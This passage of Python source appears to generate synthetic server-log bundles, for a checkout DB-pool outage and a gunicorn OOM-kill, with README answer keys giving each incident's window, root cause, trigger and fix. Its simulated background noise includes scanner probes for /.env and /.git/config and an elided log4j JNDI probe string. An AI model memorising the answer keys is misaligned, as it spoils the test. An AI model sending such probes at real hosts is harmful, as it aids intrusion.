                       "checkout.payments.PaymentProviderError: upstream returned HTTP 500 (authorize)")  # fmt: skip
            else:
                msg = "unhandled error in cart: TypeError: unsupported operand type(s) for +: 'int' and 'NoneType'"
                exc = ("Traceback (most recent call last):\n"
                       '  File "/srv/checkout/checkout/api/cart.py", line 58, in get_cart\n'
                       "    subtotal = sum(line.price_cents for line in cart.lines)\n"
                       "TypeError: unsupported operand type(s) for +: 'int' and 'NoneType'")  # fmt: skip
            b.add(applog, r.t - 2, jline(r.t - 2, "error", "checkout", msg, request_id=rid, path=r.path,
                                         duration_ms=r.t - arr - 2, exc_info=exc))  # fmt: skip
        elif failed == "502":
            r.status, r.bytes = 502, 61
            mark = "root"
            w = waiting(r.t)
            msg = f"could not acquire db connection from pool (size=5, waiting={w}) after 5000 ms"
            b.add(applog, r.t - 3, jline(r.t - 3, "error", "checkout", msg, request_id=rid, path=r.path.split("?")[0],
                                         duration_ms=r.t - arr - 3, error="psycopg_pool.PoolTimeout"),
                  mark=mark, mark_text="could not acquire db connection from pool")  # fmt: skip
        else:  # 504: nginx gave up after proxy_read_timeout 10s
            r.status, r.bytes = 504, 167
            up = upstream_app + r.path
            b.add(errlog, r.t, nginx_error(r.t, "error", wpid, cid,
                                           "upstream timed out (110: Connection timed out) while reading response header from upstream",
                                           client=r.ip, server=domain, request=f"{r.method} {r.path} {r.proto}",
                                           upstream=up, host=domain))  # fmt: skip
            late = r.t + rng.randrange(400, 4000)
            if rng.random() < 0.3 and late < reload_steps[-1] - 500:
                b.add(applog, late, jline(late, "error", "checkout",
                                          f"could not acquire db connection from pool (size=5, waiting={waiting(late)}) after 5000 ms",
                                          request_id=rid, path=r.path.split("?")[0], duration_ms=late - arr,
                                          error="psycopg_pool.PoolTimeout"),
                      mark="root", mark_text="could not acquire db connection from pool")  # fmt: skip
        b.request(access_path(r.t), r)

        # The shop's JavaScript retries failed cart calls (1 s, 2 s, 4 s); shoppers click "Place order" again.
        if failed in ("502", "504") and attempt < 3:
            if r.kind == "api_checkout":
                if rng.random() < 0.6:
                    again = r.t + rng.randrange(6_000, 40_000)
                    heapq.heappush(heap, (again, seq, ("retry", who, attempt + 1, (r.method, r.path, r.ref, r.kind))))
                    seq += 1
            elif rng.random() < 0.85:
                again = r.t + 1000 * 2**attempt + rng.randrange(0, 400)
                heapq.heappush(heap, (again, seq, ("retry", who, attempt + 1, (r.method, r.path, r.ref, r.kind))))
                seq += 1

    # ---- application lifecycle and periodic lines ------------------------------------------
    def pool_stats(t, size):
        if size == 5 and w0 - 60_000 <= t < reload_steps[-1]:
            w = waiting(t) if t >= w0 else rng.randrange(0, 3)
            lvl = "warning" if t >= w0 else "info"
            return jline(t, lvl, "checkout", f"db pool stats: size=5 in_use=5 idle=0 waiting={w}", pool_size=5, in_use=5, waiting=w)
        if size == 5:
            used = rng.randrange(2, 6)
            return jline(t, "info", "checkout", f"db pool stats: size=5 in_use={used} idle={5 - used} waiting=0", pool_size=5, in_use=used, waiting=0)
        used = rng.randrange(3, 14)
        return jline(t, "info", "checkout", f"db pool stats: size=50 in_use={used} idle={50 - used} waiting=0", pool_size=50, in_use=used, waiting=0)

    for t in range(start + 31_207, end, 60_000):
        size = 5 if at("02:24:12") <= t < reload_steps[-1] else 50
        b.add(applog, t, pool_stats(t, size))
    for t in range(start + 240_000 + 1_733, end, 600_000):
        b.add(applog, t, jline(t, "info", "checkout", f"expired {rng.randrange(40, 190)} abandoned carts", job="expire-carts"))
    for t, ms_ in ((at("02:29:51.604"), 1870), (at("02:30:22.118"), 2410), (at("02:30:47.930"), 3650)):
        b.add(applog, t, jline(t, "warning", "checkout", f"slow db connection acquire: {ms_} ms (size=5, waiting={rng.randrange(2, 6)})", path="/api/checkout"))

    app_pids_old = [2288, 2289, 2290, 2291]
    app_pids_new = [3114, 3117, 3121, 3125]
    app_pids_roll = [4410, 4418, 4425, 4433]
    # deploy of 2.14.0 at 02:24
    b.add(sysl, deploy, syslog(deploy, app, "deploy-agent[21877]", "release checkout 2.14.0 (build 8841) started by ci: config db.pool_size=5"),
          mark="trigger", mark_text="release checkout 2.14.0 (build 8841) started by ci")  # fmt: skip
    t = deploy + 1_840
    b.add(sysl, t, syslog(t, app, "systemd[1]", "Reloading checkout.service - Larkspur checkout API..."))
    b.add(applog, t + 210, jline(t + 210, "info", "checkout", "received SIGHUP: chain-reloading 4 workers"))
    for i, (old, new) in enumerate(zip(app_pids_old, app_pids_new)):
        tt = t + 2_300 + i * 1_150
        b.add(applog, tt, jline(tt, "info", "checkout", "starting checkout version 2.14.0 (pool_size=5)", pid=new, worker=i + 1))
        b.add(applog, tt + 380, jline(tt + 380, "info", "checkout", "db pool ready: size=5 host=10.0.3.20:5432 db=payments", pid=new, worker=i + 1))
        b.add(applog, tt + 420, jline(tt + 420, "info", "checkout", f"worker {i + 1} (pid {old}) replaced by pid {new}", pid=new))
    t2 = t + 7_100
    b.add(sysl, t2, syslog(t2, app, "systemd[1]", "Reloaded checkout.service - Larkspur checkout API."))
    b.add(sysl, t2 + 2_000, syslog(t2 + 2_000, app, "deploy-agent[21877]", "release checkout 2.14.0 finished in 8.9s (health check ok)"))

    # on-call arrives
    page = at("02:33:05")
    b.add(sysl, page, syslog(page, web, "alertmanager-notify[912]", "sent page 'CheckoutHighErrorRate' (5xx ratio 0.41 > 0.05 for 2m) to oncall-shop"))
    for tt, h, tag, msg in [
        (at("02:38:41"), web, "sshd[30912]", "Accepted publickey for priya from 10.0.1.5 port 50214 ssh2: ED25519 SHA256:q8mXkZ1aVj0y3nT6cR2wL5pE9uH4sF7dB1gK0oA3iYc"),
        (at("02:38:41"), web, "sshd[30912]", "pam_unix(sshd:session): session opened for user priya(uid=1004) by (uid=0)"),
        (at("02:38:41"), web, "systemd-logind[644]", "New session 3318 of user priya."),
        (at("02:38:41"), web, "systemd[1]", "Started session-3318.scope - Session 3318 of User priya."),
        (at("02:39:10"), web, "sudo", "   priya : TTY=pts/0 ; PWD=/home/priya ; USER=root ; COMMAND=/usr/bin/tail -n 200 /var/log/nginx/error.log"),
        (at("02:47:55"), app, "sshd[18233]", "Accepted publickey for priya from 10.0.1.5 port 50388 ssh2: ED25519 SHA256:q8mXkZ1aVj0y3nT6cR2wL5pE9uH4sF7dB1gK0oA3iYc"),
        (at("02:48:30"), app, "sudo", "   priya : TTY=pts/1 ; PWD=/home/priya ; USER=root ; COMMAND=/usr/bin/journalctl -u checkout.service --since 02:20"),
        (at("02:58:02"), app, "sudo", "   priya : TTY=pts/1 ; PWD=/srv/checkout ; USER=root ; COMMAND=/usr/bin/git -C /srv/checkout/config log -3 --stat"),
    ]:  # fmt: skip
        b.add(sysl, tt, syslog(tt, h, tag, msg))

    # rollback at 03:07
    b.add(sysl, rollback, syslog(rollback, app, "deploy-agent[23310]", "release checkout 2.13.2 (build 8790) started by priya: rollback"),
          mark="resolution", mark_text="release checkout 2.13.2 (build 8790) started by priya: rollback")  # fmt: skip
    t = rollback + 1_950
    b.add(sysl, t, syslog(t, app, "systemd[1]", "Reloading checkout.service - Larkspur checkout API..."))
    b.add(applog, t + 190, jline(t + 190, "info", "checkout", "received SIGHUP: chain-reloading 4 workers"))
    for i, (old, new) in enumerate(zip(app_pids_new, app_pids_roll)):
        tt = reload_steps[i] + rng.randrange(0, 300)
        b.add(applog, tt, jline(tt, "info", "checkout", "starting checkout version 2.13.2 (pool_size=50)", pid=new, worker=i + 1))
        b.add(applog, tt + 350, jline(tt + 350, "info", "checkout", "db pool ready: size=50 host=10.0.3.20:5432 db=payments", pid=new, worker=i + 1))
        te = reload_steps[i + 1] - rng.randrange(200, 600)
        b.add(applog, te, jline(te, "warning" if i < 3 else "info", "checkout",
                                f"worker {i + 1} (pid {old}) exited after draining its queue; replaced by pid {new}", pid=old))  # fmt: skip
    t2 = reload_steps[-1] + 300
    b.add(sysl, t2, syslog(t2, app, "systemd[1]", "Reloaded checkout.service - Larkspur checkout API."))
    b.add(sysl, t2 + 1_400, syslog(t2 + 1_400, app, "deploy-agent[23310]", "release checkout 2.13.2 finished in 118.3s (health check ok)"))
    t3 = at("03:16:40")
    b.add(sysl, t3, syslog(t3, web, "alertmanager-notify[912]", "sent resolved 'CheckoutHighErrorRate' to oncall-shop"))

    # ---- routine syslog ------------------------------------------------------------------
    for hour in range(4):
        h0 = start + hour * 3_600_000
        for host, pid in ((web, 31001 + hour * 97), (app, 19012 + hour * 71)):
            t = h0 + 17 * 60_000 + 1_000
            b.add(sysl, t, syslog(t, host, f"CRON[{pid}]", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)"))
        t = h0 + 1_000
        if hour:
            b.add(sysl, t, syslog(t, web, "systemd[1]", "Starting logrotate.service - Rotate log files..."))
            b.add(sysl, t + 410, syslog(t + 410, web, "systemd[1]", "logrotate.service: Deactivated successfully."))
            b.add(sysl, t + 420, syslog(t + 420, web, "systemd[1]", "Finished logrotate.service - Rotate log files."))
    for t in range(start + 5_000, end, 600_000):
        for host in (web, app):
            tt = t + (0 if host == web else 2_000)
            b.add(sysl, tt, syslog(tt, host, "systemd[1]", "Starting sysstat-collect.service - system activity accounting tool..."))
            b.add(sysl, tt + 60, syslog(tt + 60, host, "systemd[1]", "sysstat-collect.service: Deactivated successfully."))
            b.add(sysl, tt + 62, syslog(tt + 62, host, "systemd[1]", "Finished sysstat-collect.service - system activity accounting tool."))
    for t in range(start + 122_000, end, 600_000):
        b.add(sysl, t, syslog(t, app, f"CRON[{20000 + (t // 600_000) % 9000}]", "(checkout) CMD (/srv/checkout/bin/expire-carts >/dev/null 2>&1)"))
    for t in arrivals(rng, start, end, lambda t: 1 / 95):
        src, port = rng.choice(pop.scanners).ip, rng.choice((23, 22, 3389, 5900, 8088, 2375, 6379, 445))
        b.add(sysl, t, kern(t, web, f"[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:8a:3e:11:52:54:00:12:35:02:08:00 SRC={src} DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL={rng.randrange(40, 250)} ID={rng.randrange(1, 65535)} PROTO=TCP SPT={rng.randrange(1024, 65535)} DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0", extra_us=rng.randrange(1000)))
    for t in (at("00:34:12"), at("01:42:55"), at("03:31:08")):
        b.add(sysl, t, syslog(t, web, "chronyd[702]", "Selected source 10.0.0.123 (ntp.internal.example)" if t != at("01:42:55") else "Source 10.0.0.124 replaced with 10.0.0.125 (ntp.internal.example)"))
    # a few nginx warnings that are not the incident
    for t in (at("00:12:40"), at("01:27:03"), at("03:52:19")):
        buffered_warning(b, errlog, t, conn, rng, pop.pick().ip, domain, upstream_store)
    t = at("01:58:44")
    wpid, cid = conn.near(t)
    b.add(errlog, t, nginx_error(t, "error", wpid, cid, "client intended to send too large body: 4718592 bytes", client=pop.pick().ip,
                                 server=domain, request="POST /api/account/avatar HTTP/2.0", host=domain))  # fmt: skip

    return finish(
        b, (w0, w1), "root", "trigger", "resolution",
        "A checkout release (2.14.0) cut the payment DB connection pool from 50 to 5 per worker; "
        "at 02:31 UTC the pool was exhausted and cart/checkout requests failed with 502/504 until "
        "the rollback to 2.13.2 finished at 03:09 UTC.",
        checkout_readme,
    )  # fmt: skip


def window_ratio(b: Bundle, start: int, end: int) -> float:
    inside = [r for r in b.requests if start <= second(r.t) < end]
    return sum(r.status >= 500 for r in inside) / max(1, len(inside))


def files_table(stats) -> str:
    rows = ["| file | lines | what it is |", "|---|---:|---|"]
    for path, n in sorted(stats["lines"].items()):
        name = path.split("/")[-1]
        text = stats["describe"].get(path) or DESCRIBE.get(name)
        if text is None:
            text = "application log, JSON lines (UTC, `Z`)" if name.endswith(".jsonl") else "application log"
        rows.append(f"| `{path}` | {n} | {text} |")
    return "\n".join(rows)


DESCRIBE = {
    "access.log": "nginx access log, `combined` format",
    "access.log.1": "nginx access log, `combined`, rotated once (middle)",
    "access.log.2.gz": "nginx access log, `combined`, rotated twice and gzipped (oldest)",
    "error.log": "nginx error log (server local time, no zone)",
    "syslog": "syslog, RFC 3164 (no year, no PRI)",
    "checkout.jsonl": "checkout service, JSON lines (UTC, `Z`)",
    "orders.log": "orders API, Python `logging` text with multi-line tracebacks (UTC, no zone)",
}


def truth_prose(truth: dict) -> str:
    def ref(c):
        return "none" if c is None else f"`{c['file']}` line {c['line']} (`{c['text']}`)"

    if not truth["incident"]:
        return (
            "- No incident: `window`, `root_cause`, `trigger` and `resolution` are `null`, and "
            "`failed_requests` and `requests_in_window` are 0.\n"
            f"- 5xx lines in the whole bundle (background): {truth['failed_requests_total']}."
        )
    return (
        f"- Failed requests (5xx) inside the window: **{truth['failed_requests']}** of "
        f"{truth['requests_in_window']} requests in the window; {truth['failed_requests_total']} "
        f"5xx in the whole bundle.\n"
        f"- First line that shows the cause: {ref(truth['root_cause'])}\n"
        f"- The change that triggered it: {ref(truth['trigger'])}\n"
        f"- What fixed it: {ref(truth['resolution'])}"
    )


def checkout_readme(stats, b: Bundle) -> str:
    t = stats["truth"]
    peak = window_ratio(b, at("02:40:00"), at("03:05:00"))
    return f"""# checkout-outage: the payment DB pool shrinks to 5 and checkout falls over

The demo bundle. **Larkspur Goods** is a made-up online shop (`shop.example`). `web-1` runs nginx
in front of two upstreams: the storefront (pages, `10.0.2.10:3000`) and the checkout service on
`app-1` (`/api/cart*`, `/api/checkout*`, `10.0.2.15:8080`). Logs cover 2024-03-14 00:00–04:00
UTC, a quiet US evening. All servers run in UTC.

## What happened (all times UTC)

- **02:24:08** the deploy agent rolls out checkout **2.14.0**. Its config change sets
  `db.pool_size=5` (it was 50). systemd reloads `checkout.service`; each of the 4 workers logs
  `starting checkout version 2.14.0 (pool_size=5)`. Nothing breaks yet: at this hour 5
  connections per worker are just enough.
- **02:29:40** the spring-sale newsletter goes out; traffic rises by about half within minutes
  (`utm_campaign=spring-sale` in the access log). From 02:29:51 the app warns about slow
  connection acquires.
- **02:31:00** the pool is exhausted. The first `could not acquire db connection from pool
  (size=5, waiting=..) after 5000 ms` error is logged and nginx returns the first **502**.
  From then on most cart and checkout calls fail: **502** when the app gives up after 5 s,
  **504** when nginx's `proxy_read_timeout` (10 s) fires first (`upstream timed out (110:
  Connection timed out) while reading response header from upstream` in `error.log`). The shop's
  JavaScript retries failed cart calls up to three times and shoppers click "Place order" again,
  so the request rate on `/api/*` climbs. Between 02:40 and 03:05 {peak:.0%} of all requests get
  a 5xx. Pages and static files keep working.
- **02:33:05** the `CheckoutHighErrorRate` alert pages the on-call (syslog). She logs in at
  02:38 and reads the logs.
- **03:07:02** the on-call rolls back to **2.13.2** (`pool_size=50`). systemd reloads the
  service; the workers are replaced one by one (chain reload), each after draining its stuck
  queue, so the failure rate falls in steps.
- **03:08:58** the last old worker exits; the last 5xx is logged just before. From **03:09:00**
  everything is healthy. The alert resolves at 03:16:40.

**Outage window: 02:31:00 → 03:09:00 UTC** (38 minutes), `[start, end)`.

## Answers (truth.json)

{truth_prose(t)}

Background that is *not* the incident: two lone 500s well outside the window (00:41:27
`PaymentProviderError`, 03:46:12 a `TypeError` in the cart), vulnerability scanners probing
`/wp-login.php`, `/.env`, `/.git/config` (404/403, and `access forbidden by rule` in
`error.log`), a TLS handshake sent to the plain-HTTP port (a `400` line whose request is raw
`\\x16\\x03...` bytes), crawlers, an uptime monitor (`HEAD /` every 5 min), `[UFW BLOCK]` kernel
lines, hourly cron and logrotate runs, and a few nginx `[warn]` lines.

## Files

{files_table(stats)}

Things a parser may find tricky:

- The access log is **rotated** (hourly logrotate with `maxsize`): `access.log.2.gz` (00:00–02:00)
  is oldest, then `access.log.1` (02:00–03:00), then `access.log` (03:00–04:00); the outage spans
  the last two files.
- `web-1/syslog` is the small fleet's rsyslog collector: it holds lines from **both** `web-1` and
  `app-1` (the host is the 4th field). RFC 3164 has no year (it is 2024).
- `error.log` times carry no zone (the server is in UTC).
- Some clients are IPv6 (`2001:db8:...`); one scanner's user agent is a log4j probe
  (`${{jndi:ldap://...}}`); the two lone 500s carry multi-line Python tracebacks inside the
  JSON `exc_info` field (escaped `\\n`).
- 504 lines are logged when nginx gives up (10 s after the request arrived), 502 lines 5 s after;
  `$time_local` is the end of the request.
"""


# ============================================================================================
# Shared pieces for the smaller bundles
# ============================================================================================


def simulate(items, handle):
    """Run `handle(arr, payload, push)` over arrivals in time order; `push` schedules more."""
    heap = [(a, i, p) for i, (a, p) in enumerate(items)]
    heapq.heapify(heap)
    seq = len(heap)

    def push(a, p):
        nonlocal seq
        heapq.heappush(heap, (a, seq, p))
        seq += 1

    while heap:
        a, _, p = heapq.heappop(heap)
        handle(a, p, push)


def routine_syslog(b, path, rng, host, start, end, off=0, kern=None, cron_pid=30000, ufw_ip=None,
                   scanners=(), extra_cron=None):  # fmt: skip
    """Hourly cron, sysstat every 10 minutes, UFW blocks, chrony: what a quiet host writes."""
    h = start - start % 3_600_000
    while h < end:
        t = h + 17 * 60_000 + 1_000
        if start <= t < end:
            b.add(path, t, syslog(t, host, f"CRON[{cron_pid + (t // 3_600_000) % 5000}]", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)", off))
        h += 3_600_000
    t = start - start % 600_000 + 5_000
    while t < end:
        if t >= start:
            b.add(path, t, syslog(t, host, "systemd[1]", "Starting sysstat-collect.service - system activity accounting tool...", off))
            b.add(path, t + 55, syslog(t + 55, host, "systemd[1]", "sysstat-collect.service: Deactivated successfully.", off))
            b.add(path, t + 57, syslog(t + 57, host, "systemd[1]", "Finished sysstat-collect.service - system activity accounting tool.", off))
        t += 600_000
    if extra_cron:
        every, user, cmd = extra_cron
        t = start - start % every + every // 2 + 1_000
        while t < end:
            if t >= start:
                b.add(path, t, syslog(t, host, f"CRON[{cron_pid + 7000 + (t // every) % 2000}]", f"({user}) CMD ({cmd})", off))
            t += every
    if kern and ufw_ip and scanners:
        for t in arrivals(rng, start, end, lambda t: 1 / 110):
            src = rng.choice(scanners).ip
            port = rng.choice((23, 22, 3389, 5900, 8088, 2375, 6379, 445, 1433))
            b.add(path, t, kern(t, host, f"[UFW BLOCK] IN=ens5 OUT= MAC=0a:3f:91:5c:22:d1:0a:1b:77:e0:4c:19:08:00 SRC={src} DST={ufw_ip} LEN=44 TOS=0x00 PREC=0x00 TTL={rng.randrange(40, 250)} ID={rng.randrange(1, 65535)} PROTO=TCP SPT={rng.randrange(1024, 65535)} DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0", off, extra_us=rng.randrange(1000)))
    t = start + rng.randrange(600_000, 3_000_000)
    b.add(path, t, syslog(t, host, "chronyd[688]", "Selected source 10.0.0.123 (ntp.internal.example)", off))


def ssh_login(b, path, t, host, user, pid, session, uid, off=0, src="10.0.1.5"):
    key = "SHA256:q8mXkZ1aVj0y3nT6cR2wL5pE9uH4sF7dB1gK0oA3iYc" if user == "priya" else "SHA256:Vt3n0pQ2xL8cRk5mZ1aHs7fJ4yW9uE6gD0bN2iC5oTw"
    b.add(path, t, syslog(t, host, f"sshd[{pid}]", f"Accepted publickey for {user} from {src} port {50000 + pid % 9000} ssh2: ED25519 {key}", off))
    b.add(path, t, syslog(t, host, f"sshd[{pid}]", f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)", off))
    b.add(path, t + 20, syslog(t + 20, host, "systemd-logind[644]", f"New session {session} of user {user}.", off))
    b.add(path, t + 31, syslog(t + 31, host, "systemd[1]", f"Started session-{session}.scope - Session {session} of User {user}.", off))


def sudo(b, path, t, host, user, pwd, cmd, off=0, tty="pts/0", mark=None, mark_text=""):
    b.add(path, t, syslog(t, host, "sudo", f"   {user} : TTY={tty} ; PWD={pwd} ; USER=root ; COMMAND={cmd}", off),
          mark=mark, mark_text=mark_text)  # fmt: skip


def bundle_readme(stats, title, intro, timeline, window_text, background, tricky) -> str:
    return f"""# {stats['name']}: {title}

{intro}

## What happened

{timeline}

{window_text}

## Answers (truth.json)

{truth_prose(stats['truth'])}

{background}

## Files

{files_table(stats)}

Things a parser may find tricky:

{tricky}
"""


def scanner_items(rng, pop, start, end, every_s=900):
    return [(a, ("scan", who, m, p)) for a, who, m, p in scanner_bursts(rng, pop, start, end, every_s)]


def handle_scan(b, access, errlog, r, who, wpid, cid, rng, server, host_header, off=0, timed=False,
                down=False, down_msg=None):  # fmt: skip
    """A scanner's probe: nginx denies dotfiles and `.php`; the rest goes to the app (404), or
    fails like every other proxied request while the app is `down`."""
    msg = scan_outcome(r, rng)
    r.t = r.arr + rng.randrange(0, 3)
    if down and r.status == 404 and ".php" not in r.path:
        text, upstream = down_msg
        r.status, r.bytes = 502, 157
        b.add(errlog, r.t, nginx_error(r.t, "error", wpid, cid, text, client=who.ip, server=server,
                                       request=f"{r.method} {r.path} {who.proto}", upstream=upstream + r.path,
                                       host=host_header, off=off))  # fmt: skip
        b.request(access, r, off, timed)
        return
    if msg:
        b.add(errlog, r.t, nginx_error(r.t, "error", wpid, cid, msg, client=who.ip, server=server,
                                       request=f"{r.method} {r.path} {who.proto}", host=host_header, off=off))  # fmt: skip
    b.request(access, r, off, timed)


# ============================================================================================
# 2. oom-kill
# ============================================================================================

DASH_UAS = [(w, ua) for w, ua in BROWSERS if "iPhone" not in ua and "Android" not in ua]


def oom_kill() -> dict:
    name = "oom-kill"
    rng = random.Random(2024_0314_02)
    noise = MinuteNoise(f"{name}-noise")
    b = Bundle(name)
    start, end = at("15:00:00"), at("17:00:00")
    host, domain, upstream = "api-1", "reports.tidewater.example", "http://127.0.0.1:8000"
    access, errlog, sysl, applog = "api-1/nginx/access.log", "api-1/nginx/error.log", "api-1/syslog", "api-1/app.jsonl"
    kills = [at("15:47:31.204"), at("15:50:52.611"), at("15:54:10.087")]
    restarts = [at("15:48:01.330"), at("15:51:22.745"), None]  # RestartSec=30s; the third is refused
    manual_start = at("16:03:12.604")
    ups = [at("15:48:05.412"), at("15:51:26.903"), at("16:03:17.000")]  # listening again
    downs = list(zip(kills, ups))
    w0, w1 = at("15:47:31"), at("16:03:17")
    exports = [at("15:45:10.118"), at("15:48:35.507"), at("15:51:56.240")]
    partner = Client("198.51.100.77", "TidewaterPartnerSync/1.4 (+https://partner.example/sync)", 1, "HTTP/1.1")
    probe = Client("10.0.5.20", "Blackbox Exporter/0.24.0", 1, "HTTP/1.1")
    pop = Population(rng, 320, uas=DASH_UAS)
    conn = Conn(rng, [911, 912], 402_118)
    kern = Kernel(start - 2_208_412_117)
    masters = [4230, 9720, 9890, 10412]
    workers = [[4242, 4243, 4244, 4245], [9731, 9732, 9733, 9734], [9904, 9905, 9906, 9907], [10420, 10421, 10422, 10423]]

    def rate(t):
        h = (t - start) / 3.6e6
        return (1.45 - 0.25 * h) * noise(t)

    def down(t):
        return any(k <= t < u for k, u in downs)

    def pick():
        d = f"https://{domain}"
        dash = rng.randrange(1, 60)
        return weighted(rng, [
            (5, ("GET", "/app/", "-", "shell")),
            (13, ("GET", rng.choice(["/static/js/main.7d2e91f0.js", "/static/css/main.0c4b8e11.css", "/static/js/chart.3a9f5b72.js", "/favicon.ico"]), f"{d}/app/", "static")),
            (8, ("GET", "/api/me", f"{d}/app/", "api")),
            (14, ("GET", f"/api/dashboards/{dash}", f"{d}/app/dashboards/{dash}", "api")),
            (38, ("GET", f"/api/widgets/{rng.randrange(100, 900)}/data?range={rng.choice(['24h', '7d', '7d', '30d'])}", f"{d}/app/dashboards/{dash}", "api")),
            (6, ("GET", f"/api/reports?page={rng.randrange(1, 5)}", f"{d}/app/reports", "api")),
            (6, ("GET", f"/api/reports/{rng.randrange(2000, 2600)}", f"{d}/app/reports", "api")),
            (3, ("POST", f"/api/reports/{rng.randrange(2000, 2600)}/run", f"{d}/app/reports", "api")),
            (3, ("GET", "/api/notifications?unread=1", f"{d}/app/", "api")),
        ])  # fmt: skip

    items = [(a, ("user", pop.pick(), None)) for a in arrivals(rng, start, end, rate)]
    items += [(a, ("probe", probe, None)) for a in range(start + 4_000, end, 30_000)]
    items += [(a, ("export", partner, i)) for i, a in enumerate(exports)]
    items += [(a, ("partner", partner, None)) for a in range(start + 61_000, end, 300_000)]
    items += scanner_items(rng, pop, start, end, 1100)

    def handle(arr, payload, push):
        src, who, extra = payload[0], payload[1], payload[2]
        wpid, cid = conn.next(arr)
        if src == "scan":
            r = Req(arr, who, extra, payload[3], kind="scan")
            handle_scan(b, access, errlog, r, who, wpid, cid, rng, domain, "192.0.2.30",
                        down=down(arr), down_msg=("connect() failed (111: Connection refused) while connecting to upstream", upstream))  # fmt: skip
            return
        if src == "probe":
            method, path, ref, kind = "GET", "/healthz", "-", "api"
        elif src == "partner":
            method, path, ref, kind = "GET", f"/api/reports?updated_since=2024-03-14T{fmt_hm(arr - 300_000)}Z", "-", "api"
        elif src == "export":
            method, path, ref, kind = "GET", "/api/reports/export?range=all&format=csv", "-", "export"
        else:
            method, path, ref, kind = pick()
        r = Req(arr, who, method, path, ref=ref, kind=kind)
        if kind in ("shell", "static"):
            r.t = arr + rng.randrange(0, 4)
            r.status, r.bytes = (304, 0) if rng.random() < 0.35 else (200, rng.randrange(900, 420_000) if kind == "static" else 1841)
            b.request(access, r)
            return
        if down(arr):
            r.t, r.status, r.bytes = arr + rng.randrange(0, 2), 502, 157
            b.add(errlog, r.t, nginx_error(r.t, "error", wpid, cid, "connect() failed (111: Connection refused) while connecting to upstream",
                                           client=who.ip, server=domain, request=f"{method} {path} {who.proto}",
                                           upstream=upstream + path, host=domain))  # fmt: skip
            b.request(access, r)
            return
        if kind == "export":
            i = extra
            rid = request_id(rng)
            pid = workers[i][0]
            b.add(applog, arr + 4, jline(arr + 4, "info", "reports-api", "report export started: range=all format=csv client=partner-sync",
                                         request_id=rid, path="/api/reports/export", pid=pid, rows_estimate=48_210_553),
                  mark="trigger" if i == 0 else None, mark_text="report export started: range=all format=csv client=partner-sync")  # fmt: skip
            t, rows, rss = arr + 20_000, 0, 310
            steps = max(1, (kills[i] - 3_000 - t) // 20_000 + 1)
            while t < kills[i] - 3_000:
                rows += rng.randrange(420_000, 520_000)
                rss += int((3_560 - 310) / steps * rng.uniform(0.9, 1.1))
                lvl = "warning" if rss > 2400 else "info"
                b.add(applog, t, jline(t, lvl, "reports-api", f"export progress: {rows} rows buffered, rss={rss} MiB",
                                       request_id=rid, pid=pid, rows=rows, rss_mb=rss))  # fmt: skip
                t += 20_000 + rng.randrange(-800, 800)
            r.t, r.status, r.bytes = kills[i], 502, 157
            b.add(errlog, r.t, nginx_error(r.t, "error", wpid, cid, "upstream prematurely closed connection while reading response header from upstream",
                                           client=who.ip, server=domain, request=f"{method} {path} {who.proto}",
                                           upstream=upstream + path, host=domain))  # fmt: skip
            b.request(access, r)
            return
        lat = int(rng.lognormvariate(math.log(70 if "widgets" in path else 35), 0.55))
        if path.endswith("/run"):
            lat = rng.randrange(80, 420)
        done = arr + lat
        hit = next((k for k in kills if arr < k <= done), None)
        if hit is not None:
            r.t, r.status, r.bytes = hit + rng.randrange(0, 5), 502, 157
            b.add(errlog, r.t, nginx_error(r.t, "error", wpid, cid, "upstream prematurely closed connection while reading response header from upstream",
                                           client=who.ip, server=domain, request=f"{method} {path} {who.proto}",
                                           upstream=upstream + path, host=domain))  # fmt: skip
            b.request(access, r)
            return
        r.t = done
        if src == "probe":
            r.bytes = 15
        elif path.endswith("/run"):
            r.status, r.bytes = 202, rng.randrange(80, 120)
            b.add(applog, done - 2, jline(done - 2, "info", "reports-api", f"report {path.split('/')[3]} queued for run", path=path, duration_ms=lat))
        else:
            r.status = 404 if (path.startswith(("/api/reports/", "/api/dashboards/")) and rng.random() < 0.01) else 200
            r.bytes = rng.randrange(400, 48000) if r.status == 200 else 38
            if lat > 450:
                b.add(applog, done - 1, jline(done - 1, "warning", "reports-api", f"slow request: {method} {path.split('?')[0]} took {lat} ms",
                                              path=path.split("?")[0], duration_ms=lat))  # fmt: skip
        b.request(access, r)

    simulate(items, handle)

    # ---- the OOM kills, as the kernel and systemd tell them --------------------------------
    for i, k in enumerate(kills):
        pid, master = workers[i][0], masters[i]
        anon = rng.randrange(3_790_000, 3_900_000)
        total_vm = anon + rng.randrange(1_100_000, 1_300_000)
        lines = [
            "gunicorn invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0",
            f"CPU: 1 PID: {pid} Comm: gunicorn Not tainted 6.5.0-21-generic #21~22.04.1-Ubuntu",
            "Hardware name: Amazon EC2 t3.medium/, BIOS 1.0 10/16/2017",
            "Mem-Info:",
            f"active_anon:{anon // 4 + 1200} inactive_anon:{rng.randrange(9000, 15000)} isolated_anon:0",
            "Tasks state (memory values in pages):",
            "[  pid  ]   uid  tgid total_vm      rss pgtables_bytes swapents oom_score_adj name",
            task_row(master, 31_287, 10_412, 266_240),
        ] + [
            task_row(w, total_vm // 4, anon // 4, 7_929_856) if w == pid else task_row(w, 98_311, rng.randrange(30_000, 42_000), 651_264)
            for w in workers[i]
        ] + [
            f"oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/system.slice/app.service,task=gunicorn,pid={pid},uid=998",
            f"Out of memory: Killed process {pid} (gunicorn) total-vm:{total_vm}kB, anon-rss:{anon}kB, file-rss:{rng.randrange(1800, 2900)}kB, shmem-rss:0kB, UID:998 pgtables:7744kB oom_score_adj:0",
        ]  # fmt: skip
        for j, text in enumerate(lines):
            mark = "root" if text.startswith("Out of memory") else None
            b.add(sysl, k - 40 + j * 3, kern(k - 40 + j * 3, host, text, extra_us=j * 211),
                  mark=mark, mark_text=f"Out of memory: Killed process {pid} (gunicorn)")  # fmt: skip
        for j, text in enumerate([
            "app.service: A process of this unit has been killed by the OOM killer.",
            "app.service: Main process exited, code=killed, status=9/KILL",
